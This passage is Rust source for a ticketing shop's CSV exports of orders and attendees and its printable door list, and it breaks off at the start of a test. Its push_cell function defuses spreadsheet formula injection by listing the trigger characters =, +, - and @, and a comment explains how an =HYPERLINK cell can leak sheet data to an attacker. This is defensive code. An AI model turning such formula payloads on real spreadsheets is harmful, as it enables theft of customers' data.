//! What a sale's staff take away: orders and attendees as CSV, and the
//! door's printable list of a slot or an event (docs/admin.md, "Exports").
//!
//! A CSV is streamed: its rows come from PostgreSQL one by one (an sqlx
//! `fetch` stream) and leave as CSV as they come, at most
//! [`ROWS_PER_CHUNK`] at a time, so an export of 100,000 codes never sits
//! in memory: PostgreSQL sends more only as the client takes them. The response waits
//! for its first rows before it is answered, so a database that is away is
//! a 503, not a file cut short; a failure after that cuts the transfer
//! short (no closing chunk), which every client reports as an incomplete
//! download rather than a complete file. Each export is recorded in
//! Activity, with who and what filter, before its first row is read.
//!
//! Cells follow RFC 4180 (quoted when they hold a comma, a quote, CR or LF;
//! quotes doubled; lines end in CRLF), in UTF-8 with a byte order mark so
//! that a spreadsheet opened by a double click reads it as UTF-8. A cell a
//! spreadsheet would run as a formula is defused: see [`push_cell`].

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use chrono::{DateTime, Datelike, NaiveDate, NaiveTime, Utc};
use futures::stream::{self, BoxStream, StreamExt};
use serde_json::json;
use sqlx::postgres::PgRow;
use sqlx::{Executor, FromRow, PgPool};
use tokio::sync::{OwnedSemaphorePermit, Semaphore};
use uuid::Uuid;

use super::StaffMember;
use crate::audit::{self, Actor};
use crate::checkout::OrderState;
use crate::clock::ShopZone;

/// Exports streaming at once in one process: each holds a database
/// connection for as long as its download takes, and the shop's pages need
/// the rest of the pool.
const STREAMS_AT_ONCE: usize = 4;
/// How long an export waits for another to finish before it is refused.
const STREAM_WAIT: Duration = Duration::from_secs(5);
/// Rows written into one chunk of the response at most (those already read
/// from the database; a chunk never waits for more).
const ROWS_PER_CHUNK: usize = 64;
/// What a chunk is made in: 64 rows of the longest names and addresses fit,
/// so a chunk is allocated once, at one size, and each reuses the last's
/// memory (below the allocator's threshold for mapping memory of its own).
const CHUNK_BYTES: usize = 64 * 1024;
/// The door's list shows at most this many codes; a larger sale is
/// narrowed to one tier or slot, or exported as CSV. A list is never cut
/// short: a name missing at the door turns a paying guest away.
pub const DOOR_LIST_LIMIT: usize = 5_000;

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// The filter cannot be read (a bad date, an unknown state).
    #[error("{0}")]
    InvalidInput(String),
    /// The filter names a product or collection the shop does not have.
    #[error("{0}")]
    NotFound(String),
    /// Too many exports are streaming; try again shortly.
    #[error("other exports are streaming")]
    Busy,
    #[error(transparent)]
    Database(#[from] sqlx::Error),
}

fn invalid(message: impl Into<String>) -> ExportError {
    ExportError::InvalidInput(message.into())
}

// ---- the filter ----

/// The filter as the exports form sends it: every field optional, empty
/// the same as absent.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FilterForm {
    pub product: Option<String>,
    pub collection: Option<String>,
    pub state: Option<String>,
    pub paid_from: Option<String>,
    pub paid_to: Option<String>,
    pub starts_from: Option<String>,
    pub starts_to: Option<String>,
}

impl FilterForm {
    /// The filter from a query string (`?collection=harbour-lights&state=paid`):
    /// the first value of each field; other fields are not the filter's.
    pub fn from_query(query: &str) -> Self {
        let mut form = Self::default();
        for (name, value) in form_urlencoded::parse(query.as_bytes()) {
            let field = match name.as_ref() {
                "product" => &mut form.product,
                "collection" => &mut form.collection,
                "state" => &mut form.state,
                "paid_from" => &mut form.paid_from,
                "paid_to" => &mut form.paid_to,
                "starts_from" => &mut form.starts_from,
                "starts_to" => &mut form.starts_to,
                _ => continue,
            };
            if field.is_none() {
                *field = Some(value.into_owned());
            }
        }
        form
    }

    /// Whether any field was given at all (even empty): a form sent, not a
    /// page opened.
    pub fn sent(&self) -> bool {
        [
            &self.product,
            &self.collection,
            &self.state,
            &self.paid_from,
            &self.paid_to,
            &self.starts_from,
            &self.starts_to,
        ]
        .iter()
        .any(|field| field.is_some())
    }
}

/// Days, both included, in the shop's zone.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Days {
    pub from: Option<NaiveDate>,
    pub to: Option<NaiveDate>,
}

impl Days {
    /// The days between two fields of the form, `what` being how the form
    /// names them ("Paid", "Starts"): each a date written 2026-12-01, the
    /// first not after the last.
    fn parse(from: &Option<String>, to: &Option<String>, what: &str) -> Result<Self, ExportError> {
        let day = |value: &Option<String>, end: &str| -> Result<Option<NaiveDate>, ExportError> {
            let Some(text) = given(value) else {
                return Ok(None);
            };
            match NaiveDate::parse_from_str(text, "%Y-%m-%d") {
                Ok(day) if (1900..=9999).contains(&day.year()) => Ok(Some(day)),
                Ok(_) => Err(invalid(format!(
                    "{what} {end}: {} is not a year the shop sells in.",
                    quoted(text)
                ))),
                Err(_) => Err(invalid(format!(
                    "{what} {end}: {} is not a date. Write it as 2026-12-01.",
                    quoted(text)
                ))),
            }
        };
        let days = Self {
            from: day(from, "from")?,
            to: day(to, "to")?,
        };
        if let (Some(from), Some(to)) = (days.from, days.to)
            && from > to
        {
            return Err(invalid(format!(
                "{what} from {from} is after {what} to {to}: the first day comes first.",
                what = what.to_lowercase()
            )));
        }
        Ok(days)
    }

    /// The moment the first day begins here.
    fn start(&self, zone: ShopZone) -> Option<DateTime<Utc>> {
        self.from.map(|day| day_starts(zone, day))
    }

    /// The moment the day after the last begins here (the window's end,
    /// not in it).
    fn end(&self, zone: ShopZone) -> Option<DateTime<Utc>> {
        self.to
            .and_then(|day| day.succ_opt())
            .map(|day| day_starts(zone, day))
    }

    fn words(&self) -> Option<String> {
        match (self.from, self.to) {
            (None, None) => None,
            (Some(from), None) => Some(format!("from {from}")),
            (None, Some(to)) => Some(format!("to {to}")),
            (Some(from), Some(to)) if from == to => Some(format!("on {from}")),
            (Some(from), Some(to)) => Some(format!("{from} to {to}")),
        }
    }
}

/// When a day begins in the zone: midnight, or the first moment after it
/// where the clocks skip midnight (some zones change at 00:00).
fn day_starts(zone: ShopZone, day: NaiveDate) -> DateTime<Utc> {
    (0..=3)
        .find_map(|hour| zone.at(day, NaiveTime::from_hms_opt(hour, 0, 0)?).ok())
        .unwrap_or_else(|| day.and_time(NaiveTime::MIN).and_utc())
}

fn given(value: &Option<String>) -> Option<&str> {
    value.as_deref().map(str::trim).filter(|v| !v.is_empty())
}

/// Someone's input, quoted as a message shows it: in quotes, control
/// characters escaped, cut after 40 characters.
fn quoted(text: &str) -> String {
    let mut shown: String = text.chars().take(40).collect();
    if shown.len() < text.len() {
        shown.push('…');
    }
    format!("{shown:?}")
}

/// What an export covers. Everything given must hold: a product (or a
/// collection: an event's tiers, a bakery's slots), the order's state, the
/// days it was paid on and the days the product starts on, in the shop's
/// zone.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ExportFilter {
    pub product: Option<String>,
    pub collection: Option<String>,
    pub state: Option<OrderState>,
    pub paid: Days,
    pub starts: Days,
}

impl ExportFilter {
    pub fn parse(form: &FilterForm) -> Result<Self, ExportError> {
        let short = |value: &Option<String>, what: &str| -> Result<Option<String>, ExportError> {
            match given(value) {
                Some(text) if text.chars().count() > 200 => Err(invalid(format!(
                    "No {what} has a name that long: {}",
                    quoted(text)
                ))),
                other => Ok(other.map(str::to_owned)),
            }
        };
        let state = match given(&form.state) {
            None => None,
            Some(name) => Some(OrderState::parse(name).ok_or_else(|| {
                let states: Vec<&str> = OrderState::ALL.iter().map(|s| s.as_str()).collect();
                invalid(format!(
                    "Order state: {} is not one; an order is {}.",
                    quoted(name),
                    states.join(", ")
                ))
            })?),
        };
        Ok(Self {
            product: short(&form.product, "product")?,
            collection: short(&form.collection, "event or shop part")?,
            state,
            paid: Days::parse(&form.paid_from, &form.paid_to, "Paid")?,
            starts: Days::parse(&form.starts_from, &form.starts_to, "Starts")?,
        })
    }

    /// Whether it names what a door lets in: a product or a collection.
    pub fn names_a_sale(&self) -> bool {
        self.product.is_some() || self.collection.is_some()
    }

    /// "collection harbour-lights, paid 2026-12-01 to 2026-12-31", or
    /// "everything": how Activity and the pages say it.
    pub fn words(&self) -> String {
        let mut parts = Vec::new();
        if let Some(collection) = &self.collection {
            parts.push(format!("collection {collection}"));
        }
        if let Some(product) = &self.product {
            parts.push(format!("product {product}"));
        }
        if let Some(state) = self.state {
            parts.push(format!("state {state}"));
        }
        if let Some(days) = self.paid.words() {
            parts.push(format!("paid {days}"));
        }
        if let Some(days) = self.starts.words() {
            parts.push(format!("starts {days}"));
        }
        if parts.is_empty() {
            "everything".to_owned()
        } else {
            parts.join(", ")
        }
    }

    /// The filter, as Activity's detail keeps it.
    fn detail(&self) -> serde_json::Value {
        let day = |d: Option<NaiveDate>| d.map(|d| d.to_string());
        json!({
            "product": self.product,
            "collection": self.collection,
            "state": self.state.map(|s| s.as_str()),
            "paid_from": day(self.paid.from),
            "paid_to": day(self.paid.to),
            "starts_from": day(self.starts.from),
            "starts_to": day(self.starts.to),
        })
    }

    /// The download's name: `attendees-harbour-lights-paid-2026-12-01-to-2026-12-31.csv`.
    pub fn filename(&self, what: &str) -> String {
        let mut parts = vec![what.to_owned()];
        parts.extend(self.collection.clone());
        parts.extend(self.product.clone());
        parts.extend(self.state.map(|s| s.as_str().to_owned()));
        if let Some(days) = self.paid.words() {
            parts.push(format!("paid {days}"));
        }
        if let Some(days) = self.starts.words() {
            parts.push(format!("starts {days}"));
        }
        if parts.len() == 1 {
            parts.push("all".to_owned());
        }
        // letters, digits, underscores and dashes: safe in a header and on any disk
        let mut name = String::new();
        for c in parts.join("-").chars() {
            let c = if c.is_ascii_alphanumeric() || c == '_' {
                c.to_ascii_lowercase()
            } else {
                '-'
            };
            if !(c == '-' && (name.is_empty() || name.ends_with('-'))) {
                name.push(c);
            }
        }
        let name: String = name.trim_end_matches('-').chars().take(150).collect();
        format!("{name}.csv")
    }

    /// The bound parameters every export query takes, in order: $1 state,
    /// $2 and $3 paid from and before, $4 product, $5 collection, $6 and $7
    /// starts from and before.
    fn bind(&self, zone: ShopZone, sql: &'static str) -> PgQuery {
        sqlx::query(sql)
            .bind(self.state.map(|s| s.as_str()))
            .bind(self.paid.start(zone))
            .bind(self.paid.end(zone))
            .bind(self.product.clone())
            .bind(self.collection.clone())
            .bind(self.starts.start(zone))
            .bind(self.starts.end(zone))
    }
}

type PgQuery = sqlx::query::Query<'static, sqlx::Postgres, sqlx::postgres::PgArguments>;

/// The product and collection a filter names exist (a typo is told, not
/// answered with an empty file).
async fn check_names(pool: &PgPool, filter: &ExportFilter) -> Result<(), ExportError> {
    if let Some(product) = &filter.product {
        let collection: Option<String> =
            sqlx::query_scalar("select collection from products where id = $1")
                .bind(product)
                .fetch_optional(pool)
                .await?;
        match (collection, &filter.collection) {
            (None, _) => {
                return Err(ExportError::NotFound(format!(
                    "The shop has no product, tier or slot {}.",
                    quoted(product)
                )));
            }
            (Some(its), Some(asked)) if &its != asked => {
                let (product, its, asked) = (quoted(product), quoted(&its), quoted(asked));
                return Err(invalid(format!(
                    "{product} is part of {its}, not of {asked}: choose {its}, or any event \
                     or shop part."
                )));
            }
            _ => {}
        }
    }
    if let Some(collection) = &filter.collection {
        let known: bool = sqlx::query_scalar(
            "select exists (select 1 from collections where id = $1) \
                 or exists (select 1 from products where collection = $1)",
        )
        .bind(collection)
        .fetch_one(pool)
        .await?;
        if !known {
            return Err(ExportError::NotFound(format!(
                "The shop has no event or shop part {}.",
                quoted(collection)
            )));
        }
    }
    Ok(())
}

/// Writes the export into Activity: who, what, which filter. Before the
/// first row is read, so no export goes unrecorded.
async fn record_export(
    pool: &PgPool,
    by: Actor<'_>,
    action: &str,
    filter: &ExportFilter,
) -> Result<(), ExportError> {
    let words = filter.words();
    let mut detail = filter.detail();
    // the role it was made under: a member's role may change later (a
    // key's scopes are in its own record)
    if let Actor::Staff(member) = by {
        detail["role"] = json!(member.role);
    }
    let mut tx = pool.begin().await?;
    audit::record(&mut tx, by, action, &words, "started", detail).await?;
    tx.commit().await?;
    audit::log_action(by, action, &words, "started");
    Ok(())
}

// ---- CSV ----

/// Appends one cell to a CSV line.
///
/// RFC 4180: a cell holding a comma, a double quote, CR or LF is put in
/// double quotes, with its quotes doubled.
///
/// Formula injection: a spreadsheet runs a cell that starts with `=`, `+`,
/// `-` or `@` as a formula (`=HYPERLINK(...)` in a customer's name sends
/// whoever clicks it to the attacker, with the sheet's data in the link), and
/// some also after a leading tab or CR. Such a cell, and one whose first
/// character after leading white space is one of those, is prefixed with an
/// apostrophe (`'`), which every spreadsheet shows as text and none runs;
/// the rest of the cell is kept as it was. Holdfast's own values never
/// start so (codes, ids, times and amounts are never negative), so a
/// leading apostrophe in an export always marks text that came from
/// someone's input.
pub fn push_cell(line: &mut String, value: &str) {
    const FORMULA: [char; 4] = ['=', '+', '-', '@'];
    let defuse = value.starts_with(['\t', '\r'])
        || value
            .trim_start_matches(char::is_whitespace)
            .starts_with(FORMULA);
    let quote = value.contains([',', '"', '\r', '\n']);
    if quote {
        line.push('"');
    }
    if defuse {
        line.push('\'');
    }
    if quote {
        line.push_str(&value.replace('"', "\"\""));
        line.push('"');
    } else {
        line.push_str(value);
    }
}

/// Appends one whole line: cells separated by commas, ended by CRLF.
pub fn push_line<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_cell(out, cell);
    }
    out.push_str("\r\n");
}

/// The byte order mark that tells a spreadsheet the file is UTF-8.
const BOM: &str = "\u{feff}";

/// A moment in the shop's zone with its offset: `2026-12-01 19:02:03+01:00`.
fn moment(zone: ShopZone, at: Option<DateTime<Utc>>) -> String {
    at.map(|at| zone.local(at).format("%Y-%m-%d %H:%M:%S%:z").to_string())
        .unwrap_or_default()
}

fn yes(value: bool) -> &'static str {
    if value { "yes" } else { "no" }
}

/// A file on its way: its name, and its bytes as they are made.
pub struct CsvExport {
    pub filename: String,
    pub body: BoxStream<'static, Result<Bytes, sqlx::Error>>,
}

/// A row of an export, written as one CSV line.
trait CsvRow: for<'r> FromRow<'r, PgRow> + Send + Unpin + 'static {
    const COLUMNS: &'static [&'static str];
    fn cells(&self, zone: ShopZone) -> Vec<String>;
}

/// The rows of `sql` for a filter, as the database sends them. The pool's
/// own fetch: the stream takes a connection of its own and keeps it until
/// the last row is read or the stream is dropped.
fn rows<R: CsvRow>(
    pool: &PgPool,
    sql: &'static str,
    filter: &ExportFilter,
    zone: ShopZone,
) -> BoxStream<'static, sqlx::Result<R>> {
    pool.fetch(filter.bind(zone, sql))
        .map(|row| R::from_row(&row?))
        .boxed()
}

/// The downloads a server process streams: at most [`STREAMS_AT_ONCE`] at
/// once, each holding its turn until its last row left or the download was
/// dropped. One per process (`state::Shop`).
#[derive(Debug, Clone)]
pub struct Exports {
    streaming: Arc<Semaphore>,
}

impl Default for Exports {
    fn default() -> Self {
        Self {
            streaming: Arc::new(Semaphore::new(STREAMS_AT_ONCE)),
        }
    }
}

impl Exports {
    /// A turn to stream, waited for a little while.
    async fn turn(&self) -> Result<OwnedSemaphorePermit, ExportError> {
        tokio::time::timeout(STREAM_WAIT, self.streaming.clone().acquire_owned())
            .await
            .map_err(|_| ExportError::Busy)?
            .map_err(|_| ExportError::Busy)
    }
}

/// Rows as CSV: the header line, then the rows in chunks of those the
/// database has already sent (at most [`ROWS_PER_CHUNK`]; a chunk never
/// waits for more). Answers once the first chunk is ready, so a query that
/// cannot run is an error here rather than a file cut short.
async fn stream_csv<R: CsvRow>(
    turn: OwnedSemaphorePermit,
    rows: BoxStream<'static, sqlx::Result<R>>,
    zone: ShopZone,
    filename: String,
) -> Result<CsvExport, ExportError> {
    let mut chunks: BoxStream<'static, Result<Bytes, sqlx::Error>> = rows
        .ready_chunks(ROWS_PER_CHUNK)
        .map(move |rows| {
            let mut out = String::with_capacity(CHUNK_BYTES);
            for row in rows {
                push_line(&mut out, row?.cells(zone).iter().map(String::as_str));
            }
            Ok(Bytes::from(out))
        })
        .boxed();
    let mut head = String::from(BOM);
    push_line(&mut head, R::COLUMNS.iter().copied());
    let first = match chunks.next().await {
        Some(Ok(rows)) => [head.as_bytes(), &rows].concat(),
        Some(Err(error)) => return Err(error.into()),
        None => head.into_bytes(),
    };
    let body = stream::once(async move { Ok(Bytes::from(first)) })
        .chain(chunks)
        // the turn ends with the last row, or with a dropped download
        .map(move |chunk| {
            let _streaming = &turn;
            chunk
        })
        .boxed();
    Ok(CsvExport { filename, body })
}

// ---- orders ----

/// One order: what was bought, what was paid for it after its voucher, what
/// was given back.
#[derive(Debug, Clone, FromRow)]
struct OrderLine {
    id: Uuid,
    created_at: DateTime<Utc>,
    paid_at: Option<DateTime<Utc>>,
    state: String,
    flag: Option<String>,
    customer_name: String,
    customer_email: String,
    /// The order's lines, by name: quantity, name, and what was paid for
    /// the line (its price times its quantity, less its share of a
    /// voucher's discount).
    line_qtys: Vec<i32>,
    line_names: Vec<String>,
    line_paid: Vec<i64>,
    units_refunded: i64,
    currency: String,
    /// At the products' prices, before any discount.
    subtotal_minor: i64,
    voucher_code: Option<String>,
    /// What was paid: the lines' paid amounts summed.
    paid_minor: i64,
    refunded_minor: i64,
    provider: String,
    payment_ref: Option<String>,
    pickup_code: Option<String>,
}

impl OrderLine {
    /// `2 × Harbour Lights — General admission (€70.00); 1 × Harbour Lights
    /// — VIP (€81.00)`: each line with what was paid for it
    fn lines(&self) -> String {
        let mut words = String::new();
        for ((qty, name), paid) in self
            .line_qtys
            .iter()
            .zip(&self.line_names)
            .zip(&self.line_paid)
        {
            if !words.is_empty() {
                words.push_str("; ");
            }
            words.push_str(&format!(
                "{qty} × {name} ({})",
                crate::money::format(*paid, &self.currency)
            ));
        }
        words
    }
}

impl CsvRow for OrderLine {
    const COLUMNS: &'static [&'static str] = &[
        "order_id",
        "placed_at",
        "paid_at",
        "state",
        "flag",
        "customer_name",
        "customer_email",
        "lines",
        "units",
        "units_refunded",
        "currency",
        "subtotal_minor",
        "voucher",
        "discount_minor",
        "discount",
        "amount_minor",
        "amount",
        "refunded_minor",
        "refunded",
        "provider",
        "payment_ref",
        "pickup_code",
    ];

    fn cells(&self, zone: ShopZone) -> Vec<String> {
        let money = |minor: i64| crate::money::format(minor, &self.currency);
        let discount = self.subtotal_minor - self.paid_minor;
        let units: i64 = self.line_qtys.iter().map(|q| i64::from(*q)).sum();
        vec![
            self.id.to_string(),
            moment(zone, Some(self.created_at)),
            moment(zone, self.paid_at),
            self.state.clone(),
            self.flag.clone().unwrap_or_default(),
            self.customer_name.clone(),
            self.customer_email.clone(),
            self.lines(),
            units.to_string(),
            self.units_refunded.to_string(),
            self.currency.to_uppercase(),
            self.subtotal_minor.to_string(),
            self.voucher_code.clone().unwrap_or_default(),
            discount.to_string(),
            money(discount),
            self.paid_minor.to_string(),
            money(self.paid_minor),
            self.refunded_minor.to_string(),
            money(self.refunded_minor),
            self.provider.clone(),
            self.payment_ref.clone().unwrap_or_default(),
            self.pickup_code.clone().unwrap_or_default(),
        ]
    }
}

/// One line per order with a line the filter wants (the whole order, all
/// its lines and its whole amount, even when only one line matched), in
/// the order they were placed. What a line paid is `paid_minor` (written
/// at checkout, less its share of a voucher); a line written before
/// vouchers has paid its price.
const ORDERS_SQL: &str = "-- holdfast export: orders
select o.id, o.created_at, o.paid_at, o.state, o.flag, o.customer_name, o.customer_email,
       l.line_qtys, l.line_names, l.line_paid, l.units_refunded, o.currency, l.subtotal_minor,
       o.voucher_code, l.paid_minor, o.refunded_minor, o.provider, o.payment_ref, o.pickup_code
  from orders o
 cross join lateral (
        select array_agg(ol.qty order by ol.name, ol.product_id) as line_qtys,
               array_agg(ol.name order by ol.name, ol.product_id) as line_names,
               array_agg(coalesce(ol.paid_minor, ol.unit_price_minor * ol.qty)
                         order by ol.name, ol.product_id) as line_paid,
               coalesce(sum(ol.refunded_qty), 0)::int8 as units_refunded,
               coalesce(sum(ol.unit_price_minor * ol.qty), 0)::int8 as subtotal_minor,
               coalesce(sum(coalesce(ol.paid_minor, ol.unit_price_minor * ol.qty)), 0)::int8
                   as paid_minor,
               -- the order is in when any of its lines is
               bool_or(($4::text is null or p.id = $4)
                       and ($5::text is null or p.collection = $5)
                       and ($6::timestamptz is null or p.starts_at >= $6)
                       and ($7::timestamptz is null or p.starts_at < $7)) as wanted
          from order_lines ol
          join products p on p.id = ol.product_id
         where ol.order_id = o.id
       ) l
 where l.wanted
   and ($1::text is null or o.state = $1)
   and ($2::timestamptz is null or o.paid_at >= $2)
   and ($3::timestamptz is null or o.paid_at < $3)
 order by o.created_at, o.id";

/// The orders a filter covers, as CSV; recorded in Activity as
/// `export_orders`.
pub async fn orders_csv(
    pool: &PgPool,
    exports: &Exports,
    by: Actor<'_>,
    filter: &ExportFilter,
    zone: ShopZone,
) -> Result<CsvExport, ExportError> {
    let turn = exports.turn().await?;
    check_names(pool, filter).await?;
    record_export(pool, by, "export_orders", filter).await?;
    let rows = rows::<OrderLine>(pool, ORDERS_SQL, filter, zone);
    stream_csv(turn, rows, zone, filter.filename("orders")).await
}

// ---- attendees ----

/// One code: a ticket (one person, once) or a pickup code (one order's
/// slots, once), with who holds it and what became of it.
#[derive(Debug, Clone, FromRow)]
pub struct AttendeeLine {
    pub code: String,
    /// `ticket` or `pickup`
    pub kind: String,
    /// What it lets in now: a ticket's product; a pickup code's slots with
    /// the units not refunded (all of them, once everything was).
    pub admits: Option<String>,
    /// The ticket's product; a pickup code's slots, separated by spaces.
    pub product_id: Option<String>,
    pub starts_at: Option<DateTime<Utc>>,
    pub order_id: Uuid,
    pub order_state: String,
    pub customer_name: String,
    pub customer_email: String,
    pub paid_at: Option<DateTime<Utc>>,
    /// It no longer lets anyone in: its unit, or its whole order, was
    /// refunded (the door's `refunded`).
    pub refunded: bool,
    pub redeemed_at: Option<DateTime<Utc>>,
    pub redeemed_by: Option<String>,
    pub place: Option<String>,
}

impl CsvRow for AttendeeLine {
    const COLUMNS: &'static [&'static str] = &[
        "code",
        "kind",
        "admits",
        "product_id",
        "starts_at",
        "customer_name",
        "customer_email",
        "order_id",
        "order_state",
        "paid_at",
        "redeemed",
        "redeemed_at",
        "redeemed_by",
        "redeemed_where",
        "refunded",
    ];

    fn cells(&self, zone: ShopZone) -> Vec<String> {
        vec![
            self.code.clone(),
            self.kind.clone(),
            self.admits.clone().unwrap_or_default(),
            self.product_id.clone().unwrap_or_default(),
            moment(zone, self.starts_at),
            self.customer_name.clone(),
            self.customer_email.clone(),
            self.order_id.to_string(),
            self.order_state.clone(),
            moment(zone, self.paid_at),
            yes(self.redeemed_at.is_some()).to_owned(),
            moment(zone, self.redeemed_at),
            self.redeemed_by.clone().unwrap_or_default(),
            self.place.clone().unwrap_or_default(),
            yes(self.refunded).to_owned(),
        ]
    }
}

/// Every code the filter covers, by the holder's name. A ticket is in when
/// its product is; a pickup code when any of its order's slots is. What is
/// "refunded" is what the door (`hf_redeem`) refuses as refunded.
const ATTENDEES_SQL: &str = "-- holdfast export: attendees
with codes as (
    -- a ticket: one code per unit
    select c.code, 'ticket' as kind, c.order_id, p.name as admits, p.id as product_id,
           p.starts_at, c.refunded_at is not null as unit_refunded
      from order_codes c
      join products p on p.id = c.product_id
     where ($4::text is null or p.id = $4)
       and ($5::text is null or p.collection = $5)
       and ($6::timestamptz is null or p.starts_at >= $6)
       and ($7::timestamptz is null or p.starts_at < $7)
    union all
    -- a pickup code: one per order, for all its slots
    select o.pickup_code, 'pickup', o.id, s.admits, s.product_id, s.starts_at, s.all_refunded
      from orders o
     cross join lateral (
            select coalesce(
                       string_agg(l.name || ' × ' || (l.qty - l.refunded_qty), '; '
                                  order by p.starts_at, l.name)
                         filter (where l.refunded_qty < l.qty),
                       string_agg(l.name || ' × ' || l.qty, '; ' order by p.starts_at, l.name)
                   ) as admits,
                   string_agg(p.id, ' ' order by p.starts_at, p.id) as product_id,
                   min(p.starts_at) as starts_at,
                   bool_and(l.refunded_qty = l.qty) as all_refunded,
                   bool_or(($4::text is null or p.id = $4)
                           and ($5::text is null or p.collection = $5)
                           and ($6::timestamptz is null or p.starts_at >= $6)
                           and ($7::timestamptz is null or p.starts_at < $7)) as wanted
              from order_lines l
              join products p on p.id = l.product_id
              join product_kinds k on k.kind = p.kind
             where l.order_id = o.id and k.code = 'pickup'
           ) s
     where o.pickup_code is not null and s.wanted
)
select x.code, x.kind, x.admits, x.product_id, x.starts_at, o.id as order_id,
       o.state as order_state, o.customer_name, o.customer_email, o.paid_at,
       (x.unit_refunded or o.state in ('refund_pending', 'refunded')) as refunded,
       r.redeemed_at, r.redeemed_by, r.place
  from codes x
  join orders o on o.id = x.order_id
  left join redemptions r on r.code = x.code
 where ($1::text is null or o.state = $1)
   and ($2::timestamptz is null or o.paid_at >= $2)
   and ($3::timestamptz is null or o.paid_at < $3)
 order by lower(o.customer_name), o.customer_name, o.id, x.kind, x.code";

/// The codes a filter covers, as CSV; recorded in Activity as
/// `export_attendees`.
pub async fn attendees_csv(
    pool: &PgPool,
    exports: &Exports,
    by: Actor<'_>,
    filter: &ExportFilter,
    zone: ShopZone,
) -> Result<CsvExport, ExportError> {
    let turn = exports.turn().await?;
    check_names(pool, filter).await?;
    record_export(pool, by, "export_attendees", filter).await?;
    let rows = rows::<AttendeeLine>(pool, ATTENDEES_SQL, filter, zone);
    stream_csv(turn, rows, zone, filter.filename("attendees")).await
}

// ---- the door's list ----

/// A slot's or an event's codes, by name, for the door to tick off.
#[derive(Debug, Clone)]
pub enum DoorList {
    Listed {
        codes: Vec<AttendeeLine>,
        redeemed: usize,
        refunded: usize,
    },
    /// More codes than a list shows ([`DOOR_LIST_LIMIT`]).
    TooMany,
}

/// The door's list for a filter that names a product or a collection;
/// recorded in Activity as `door_list`.
pub async fn door_list(
    pool: &PgPool,
    staff: &StaffMember,
    filter: &ExportFilter,
    zone: ShopZone,
) -> Result<DoorList, ExportError> {
    if !filter.names_a_sale() {
        return Err(invalid(
            "Choose a slot, a tier or an event: a door's list is of one of them.",
        ));
    }
    check_names(pool, filter).await?;
    record_export(pool, Actor::from(staff), "door_list", filter).await?;
    // one more than a list shows tells that there are too many
    let codes: Vec<AttendeeLine> = rows::<AttendeeLine>(pool, ATTENDEES_SQL, filter, zone)
        .take(DOOR_LIST_LIMIT + 1)
        .collect::<Vec<_>>()
        .await
        .into_iter()
        .collect::<Result<_, _>>()?;
    if codes.len() > DOOR_LIST_LIMIT {
        return Ok(DoorList::TooMany);
    }
    Ok(DoorList::Listed {
        redeemed: codes.iter().filter(|c| c.redeemed_at.is_some()).count(),
        refunded: codes.iter().filter(|c| c.refunded).count(),
        codes,
    })
}

/// What a door's list is of, as its heading says it: "Harbour Lights —
/// VIP — Mon 14 Dec 2026, 19:30 CET", "Harbour Lights" (a collection's
/// title); the filter's words when it names neither.
pub async fn sale_title(
    pool: &PgPool,
    filter: &ExportFilter,
    zone: ShopZone,
) -> sqlx::Result<String> {
    if let Some(product) = &filter.product {
        let found: Option<(String, Option<DateTime<Utc>>)> =
            sqlx::query_as("select name, starts_at from products where id = $1")
                .bind(product)
                .fetch_optional(pool)
                .await?;
        return Ok(match found {
            Some((name, Some(at))) => format!("{name} — {}", zone.long(at)),
            Some((name, None)) => name,
            None => product.clone(),
        });
    }
    if let Some(collection) = &filter.collection {
        let title: Option<String> =
            sqlx::query_scalar("select title from collections where id = $1")
                .bind(collection)
                .fetch_optional(pool)
                .await?;
        return Ok(title.unwrap_or_else(|| collection.clone()));
    }
    Ok(filter.words())
}

// ---- the form's choices ----

/// A product the exports form offers.
#[derive(Debug, Clone, FromRow)]
pub struct ProductChoice {
    pub id: String,
    pub name: String,
    pub collection: String,
    pub starts_at: Option<DateTime<Utc>>,
    pub active: bool,
    /// Whether its units carry codes (a door's list has something to list).
    pub has_codes: bool,
}

/// An event or a part of the shop the exports form offers, with its
/// products.
#[derive(Debug, Clone)]
pub struct CollectionChoice {
    pub id: String,
    pub title: String,
    pub archived: bool,
    pub products: Vec<ProductChoice>,
}

impl CollectionChoice {
    /// Whether a door's list of it has something to list.
    pub fn has_codes(&self) -> bool {
        self.products.iter().any(|p| p.has_codes)
    }
}

/// Every collection with its products, archived ones too (their orders
/// are still exported), in the shop's order.
pub async fn choices(pool: &PgPool) -> sqlx::Result<Vec<CollectionChoice>> {
    #[derive(FromRow)]
    struct Row {
        #[sqlx(flatten)]
        product: ProductChoice,
        collection_title: String,
        collection_archived: bool,
    }
    let rows: Vec<Row> = sqlx::query_as(
        "select p.id, p.name, p.collection, p.starts_at, p.active and p.archived_at is null as active, \
                k.code is not null as has_codes, coalesce(c.title, p.collection) as collection_title, \
                c.archived_at is not null as collection_archived \
           from products p \
           join product_kinds k on k.kind = p.kind \
           left join collections c on c.id = p.collection \
          order by coalesce(c.position, 0), p.collection, p.position, p.starts_at, p.id",
    )
    .fetch_all(pool)
    .await?;
    let mut collections: Vec<CollectionChoice> = Vec::new();
    for row in rows {
        match collections.last_mut() {
            Some(last) if last.id == row.product.collection => last.products.push(row.product),
            _ => collections.push(CollectionChoice {
                id: row.product.collection.clone(),
                title: row.collection_title,
                archived: row.collection_archived,
                products: vec![row.product],
            }),
        }
    }
    Ok(collections)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(cells: &[&str]) -> String {
        let mut out = String::new();
        push_line(&mut out, cells.iter().copied());
        out
    }

    #[test]
    fn cells_are_quoted_as_rfc_4180_says() {
        assert_eq!(line(&["a", "b c", ""]), "a,b c,\r\n");
        assert_eq!(line(&["a,b"]), "\"a,b\"\r\n");
        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(line(&["one\ntwo", "x\r\ny"]), "\"one\ntwo\",\"x\r\ny\"\r\n");
        assert_eq!(line(&["Zoë Ünal", "€12.50"]), "Zoë Ünal,€12.50\r\n");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_prefixed_with_an_apostrophe() {
